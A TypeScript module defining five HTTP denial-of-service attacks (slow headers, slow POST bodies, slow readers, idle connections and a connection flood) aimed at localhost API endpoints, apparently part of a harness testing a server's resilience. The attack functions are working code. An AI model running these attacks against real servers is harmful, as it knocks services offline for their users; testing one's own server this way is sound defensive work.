import { type Attack, every, keepOpen } from './attack.ts';

/** Heads of which a byte comes now and then. */
export const slowHeads: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 500 }, (socket, tally) => {
    socket.resume();
    socket.write('GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
    every(500, socket, () => {
      tally.sent++;
      socket.write('a');
    });
  });

/** POSTs of which the body is announced and does not come. */
export const slowBodies: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 500 }, (socket, tally) => {
    socket.resume();
    tally.sent++;
    socket.write('POST /api/v1/auth/sign-in HTTP/1.1\r\nHost: localhost\r\n');
    socket.write('Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{');
  });

/** Asks for one document again and again and reads none of the answers. */
export const slowReaders: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 100 }, (socket, tally) => {
    socket.pause();
    const request = 'GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: identity\r\n\r\n';
    every(100, socket, () => {
      tally.sent += 4;
      socket.write(request.repeat(4));
    });
  });

/** 5,000 connections that say nothing, from five addresses. */
export const idleConnections: Attack = async (options) => {
  await Promise.all(
    [1, 2, 3, 4, 5].map((host) =>
      keepOpen({ ...options, from: `127.0.0.${host}` }, { protocol: 'http/1.1', count: 1_000 }, (socket) => {
        socket.resume();
      }),
    ),
  );
};

/** More connections than one address may have. */
export const connectionFlood: Attack = (options) =>
  keepOpen(options, { protocol: 'http/1.1', count: 3_000 }, (socket) => {
    socket.resume();
  });
